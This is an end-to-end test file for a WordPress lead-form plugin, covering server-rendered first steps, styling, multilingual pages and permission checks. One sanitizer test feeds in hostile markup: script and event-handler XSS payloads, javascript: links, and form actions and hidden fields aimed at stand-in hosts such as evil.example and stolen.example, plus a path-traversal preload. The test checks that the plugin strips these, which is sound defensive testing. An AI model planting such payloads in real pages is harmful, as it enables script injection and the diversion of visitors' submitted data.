import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import { addForm, addPage, signIn } from './admin.ts';
import { shortForm } from './definitions.ts';
import { password } from './installSite.ts';
import { sendLead } from './sendLead.ts';
import { withStandIn } from './standIn.ts';
import { siteBrowser, testSite } from './testSite.ts';

const site = await testSite();
const browser = await siteBrowser();

async function newPage(): Promise<Page> {
  const page = await browser.newPage();
  page.setDefaultTimeout(60_000);
  await page.route(({ hostname }) => hostname !== '127.0.0.1', (route) => route.abort());
  return page;
}

const html = async (address: string) => (await fetch(address)).text();
const block = (id: number) => `<!-- wp:lead-flow/form {"id":${id}} /-->`;

/** How many elements of a page have the rules of forms. */
const countSheets = () => [...document.querySelectorAll('style')].filter(({ textContent }) => textContent.includes('.lf-answer')).length;

/** Opens the editor of a form, where its first step is drawn. */
async function draw(page: Page, id: number): Promise<void> {
  const kept = page.waitForResponse((response) => response.url().includes('action=lead_flow_first_step'));
  await page.goto(`${site.url}wp-admin/post.php?post=${id}&action=edit`);
  await kept;
}

/** A page as it is without the form's script. */
async function withoutScript(address: string): Promise<Page> {
  const page = await newPage();
  await page.route('**/lead-flow/script/*.js*', (route) => route.abort());
  await page.goto(address);
  return page;
}

let owner: Page;
beforeAll(async () => {
  owner = await newPage();
  await signIn(owner, site);
});

describe('a form that an editor has saved', () => {
  const question = `Is it "yours" or -- 'mine' [gallery] :) 8x8 ... > 3 & so on?`;
  const quoted = { ...shortForm, steps: shortForm.steps.map((step) => (step.id === 'area' ? { ...step, question } : step)) };
  let id = 0;
  let address = '';
  beforeAll(async () => {
    id = addForm(site, 'Kept', quoted);
    await draw(owner, id);
    address = addPage(site, 'By block', block(id));
  });

  test.each([
    ['the block', () => address],
    ['the shortcode', () => addPage(site, 'By shortcode', `Before\n\n[lead_flow id="${id}"]\n\nAfter`)],
  ])('shows its first question from %s with the script blocked, in its own looks', async (_place, where) => {
    const page = await withoutScript(where());
    await page.getByRole('heading', { name: question }).waitFor();
    await page.getByRole('radio', { name: 'Arms & hands </script>' }).check();
    await expect.poll(() => page.getByRole('button', { name: 'Next' }).evaluate((button) => getComputedStyle(button).borderRadius)).not.toBe('0px');
    await expect.poll(() => page.locator('[data-lead-flow-host]').count()).toBe(1);
    await page.close();
  });

  test('is taken over where it stands when the script runs: the same elements, no rule twice, and the choice counts', async () => {
    const page = await newPage();
    let go = (): void => {};
    const held = new Promise<void>((resolve) => (go = resolve));
    await page.route('**/lead-flow/script/lead-flow.js*', async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(address, { waitUntil: 'commit' });
    const heading = page.getByRole('heading', { name: question });
    await heading.evaluate((element) => Object.assign(element, { isSame: true }));
    await page.getByRole('radio', { name: 'Legs' }).check();
    const before = await page.locator('.lf-step').innerText();
    go();
    await page.locator('[data-lead-flow]:not([data-lead-flow-rendered])').waitFor();
    await expect.poll(() => heading.evaluate((element) => 'isSame' in element)).toBe(true);
    await expect.poll(() => page.locator('.lf-step').innerText()).toBe(before);
    await expect.poll(() => page.evaluate(() => [...document.adoptedStyleSheets].filter(({ cssRules }) => [...cssRules].some(({ cssText }) => cssText.includes('.lf-answer'))).length)).toBe(0);
    await sendLead(page, 'Tara Takeover');
    expect(site.query("SELECT JSON_VALUE(payload, '$.journey[0].answer') FROM leads WHERE name = 'Tara Takeover'")).toEqual(['Legs']);
    await page.close();
  });

  test('fetches what its first Next needs after the script, however slow the phone', async () => {
    const page = await withoutScript(address);
    const links = page.locator('link[rel=modulepreload]');
    await expect.poll(() => links.count()).toBeGreaterThan(0);
    expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute('fetchpriority')))).toEqual(Array.from({ length: await links.count() }, () => 'low'));
    await page.close();
  });

  test('stands twice on a page with ids of its own and one set of rules', async () => {
    const page = await withoutScript(addPage(site, 'Twice', block(id) + block(id)));
    await expect.poll(() => page.getByRole('radio', { name: 'Legs' }).count()).toBe(2);
    const ids = await page.locator('[id^="lead-flow-root-"]').evaluateAll((elements) => elements.map((element) => element.id));
    expect(new Set(ids).size).toBe(ids.length);
    await expect.poll(() => page.evaluate(countSheets)).toBe(1);
    await page.close();
  });

  test('links to the style sheet where the settings say that a policy forbids inline styles', async () => {
    site.php(`file_put_contents( WPMU_PLUGIN_DIR . '/policy.php', "<?php add_action( 'send_headers', static fn() => is_admin() || header( \\"Content-Security-Policy: style-src 'self'\\" ) );" ); update_option( 'lead_flow_settings', array( 'link_styles' => 1 ) + get_option( 'lead_flow_settings' ) );`);
    const page = await withoutScript(address);
    await expect.poll(() => page.getByRole('button', { name: 'Next' }).evaluate((button) => getComputedStyle(button).borderRadius)).not.toBe('0px');
    await expect.poll(() => page.evaluate(countSheets)).toBe(0);
    await page.close();
    site.php(`unlink( WPMU_PLUGIN_DIR . '/policy.php' ); update_option( 'lead_flow_settings', array( 'link_styles' => 0 ) + get_option( 'lead_flow_settings' ) );`);
  });

  test('is printed without it once code has changed the form, until somebody with the right to edit forms is in the admin', async () => {
    expect(await html(address)).toContain('data-lead-flow-rendered');
    site.php(`wp_update_post( wp_slash( array( 'ID' => ${id}, 'post_content' => str_replace( 'Legs', 'Nose', get_post( ${id} )->post_content ) ) ) );`);
    expect(await html(address)).not.toContain('data-lead-flow-rendered');
    await owner.goto(`${site.url}wp-admin/edit.php?post_type=lead_flow_form`);
    await expect.poll(() => html(address)).toContain('data-lead-flow-rendered');
    expect(await html(address)).toContain('value="Nose"');
  });

  test('is printed without it after an update of the plugin', async () => {
    const file = "WP_PLUGIN_DIR . '/lead-flow/lead-flow.php'";
    const version = String(site.php('return LEAD_FLOW_VERSION;'));
    site.php(`file_put_contents( ${file}, str_replace( "'${version}'", "'0.0.1'", file_get_contents( ${file} ) ) );`);
    // PHP looks at a file again after two seconds.
    await expect.poll(() => html(address)).not.toContain('data-lead-flow-rendered');
    site.php(`file_put_contents( ${file}, str_replace( "'0.0.1'", "'${version}'", file_get_contents( ${file} ) ) );`);
    await expect.poll(() => html(address)).toContain('data-lead-flow-rendered');
  });
});

test('a form that no browser has drawn says without JavaScript how else to reach the business', async () => {
  const id = addForm(site, 'Not drawn', { ...shortForm, settings: { contact: { text: 'Call us', href: 'tel:+13035550101' } } });
  expect(await html(addPage(site, 'Not drawn', block(id)))).toContain('<noscript><p>This form needs JavaScript. <a href="tel:+13035550101">Call us</a></p></noscript>');
});

test('a site in two languages keeps the first step in both', () =>
  withStandIn(site, 'polylang-3.8.7', async () => {
    const words = (en: string, es: string) => ({ en, es });
    const id = addForm(site, 'In two languages', { ...shortForm, steps: shortForm.steps.map((step) => (step.id === 'area' ? { ...step, question: words('Which area?', '¿Qué zona?') } : step)) });
    await draw(owner, id);
    const spanish = site.php(`$folder = wp_insert_post( array( 'post_type' => 'page', 'post_status' => 'publish', 'post_name' => 'es' ) ); return get_permalink( wp_insert_post( array( 'post_type' => 'page', 'post_status' => 'publish', 'post_title' => 'Two', 'post_parent' => $folder, 'post_content' => '${block(id)}' ) ) );`);
    for (const [address, question, next] of [[addPage(site, 'Two languages', block(id)), 'Which area?', 'Next'], [String(spanish), '¿Qué zona?', 'Siguiente']] as const) {
      const page = await withoutScript(address);
      await page.getByRole('heading', { name: question }).waitFor();
      await page.getByRole('button', { name: next }).waitFor();
      await page.close();
    }
  }));

test('a form with a progress indicator shows how far a visitor is, in its own colours, before the script is there', async () => {
  const id = addForm(site, 'Progress', { ...shortForm, settings: { showStepsIndicator: true, stepper: 4, customStyles: { '--lf-accent': 'rgb(1, 2, 3)' } } });
  await draw(owner, id);
  const page = await withoutScript(addPage(site, 'Progress', block(id)));
  await expect.poll(() => page.locator('.lf-progress-fill').evaluate((bar) => getComputedStyle(bar).scale)).toBe('0.25 1');
  await expect.poll(() => page.locator('.lf-root').evaluate((root) => getComputedStyle(root).getPropertyValue('--lf-accent'))).toBe('rgb(1, 2, 3)');
  await page.close();
});

describe('what an editor’s browser posts as a first step', () => {
  const post = async (page: Page, id: number, views: unknown) => {
    await page.goto(`${site.url}wp-admin/edit.php?post_type=lead_flow_form`);
    const task = await page.evaluate(() => (window as unknown as { leadFlowFirstStep: { save: string; forms: { id: number; drawn: string }[] } }).leadFlowFirstStep); // as: what the plugin prints
    const drawn = task.forms.find((form) => form.id === id)?.drawn ?? '';
    return (await page.request.post(task.save, { form: { form: String(id), drawn, views: JSON.stringify(views) } })).status();
  };

  test('is cleaned before it is kept, so that no script gets into the page', async () => {
    site.php(`return wp_insert_user( array( 'user_login' => 'editor', 'user_pass' => '${password}', 'role' => 'editor' ) );`);
    const id = addForm(site, 'Hostile', shortForm);
    const page = await newPage();
    await page.route('**/first-step.js*', (route) => route.abort());
    await signIn(page, site, 'editor');
    // A root within the root, with addresses of its own; fields and buttons that belong to other forms of the page.
    const taken = `<div data-lead-flow id="lead-flow" data-lead-flow-submit-url="//stolen.example" data-lead-flow-api="//stolen.example"><div data-lead-flow-data hidden>{}</div><p data-lead-flow-consent="stolen">Agree</p></div><div data-lead-flow-fields><input type="hidden" name="utm_medium" value="stolen"><input type="image" src="//stolen.example"><input name="utm_medium" value="stolen"></div><button type="submit" form="other" name="stolen">Send</button><textarea form="other" id="other"></textarea><object data="//stolen.example"></object>`;
    const markup = `<div data-lead-flow-host><img src="x" onerror="window.hit=1"><script>window.hit=1</script><a href="javascript:window.hit=1">Hostile</a><form method="post" action="https://evil.example"></form><button formaction="https://evil.example">Go</button><style>*{display:none}</style><p style="position:fixed">Text</p><textarea></textarea><svg><a><animate onbegin="window.hit=1"></animate></a></svg><iframe srcdoc="<script>window.hit=1</script>"></iframe>${taken}</div>`;
    const view = { html: markup, rules: '[data-lead-flow-rendered] .x{width:1px}</style><script>window.hit=1</script>', later: true, preload: ['../../../evil.js'], stamp: '0.0.0-abc' };
    expect(await post(page, id, { 'en-US': view })).toBe(200);
    const printed = await html(addPage(site, 'Hostile', block(id)));
    const form = printed.slice(printed.lastIndexOf('data-lead-flow-rendered'), printed.indexOf('<script type="application/json" data-lead-flow-data'));
    expect(form).toContain('Hostile');
    expect(printed).not.toMatch(/onerror|onbegin|window\.hit=1<\/script>|evil\.example|evil\.js|formaction/);
    expect(form).not.toMatch(/<(?:script|style|iframe|animate)|javascript:|style=|method="post"/);
    expect(form).not.toMatch(/ data-lead-flow(?:=|-(?:submit-url|data|consent|fields|api|redirect|captcha))| (?:name="utm_medium"|type="hidden"|type="image"|form="other"|id="(?:lead-flow|other)")|stolen|<object|<textarea[^>]* form=/);
    await page.goto(addPage(site, 'Hostile again', block(id)));
    await page.locator('[data-lead-flow]:not([data-lead-flow-rendered])').waitFor();
    await expect.poll(() => page.evaluate(() => 'hit' in window)).toBe(false);
    await page.close();
  });

  test('counts for nothing from somebody who may not edit the form, or where it came into the database in another way', async () => {
    const id = addForm(site, 'Foreign', shortForm);
    const address = addPage(site, 'Foreign', block(id));
    site.php(`wp_insert_user( array( 'user_login' => 'subscriber', 'user_pass' => '${password}', 'role' => 'subscriber' ) );`);
    const page = await newPage();
    await signIn(page, site, 'subscriber');
    expect((await page.request.post(`${site.url}wp-admin/admin-ajax.php?action=lead_flow_first_step`, { form: { form: String(id), drawn: '', views: '{}' } })).status()).toBe(403);
    await page.close();
    site.php(`update_post_meta( ${id}, '_lead_flow_first_step', array( 'key' => md5( 'x' ), 'views' => array( 'en-US' => array( 'html' => '<script>window.hit=1</script>', 'rules' => '', 'later' => false, 'preload' => array(), 'stamp' => '0' ) ) ) );`);
    expect(await html(address)).not.toContain('window.hit');
  });
});
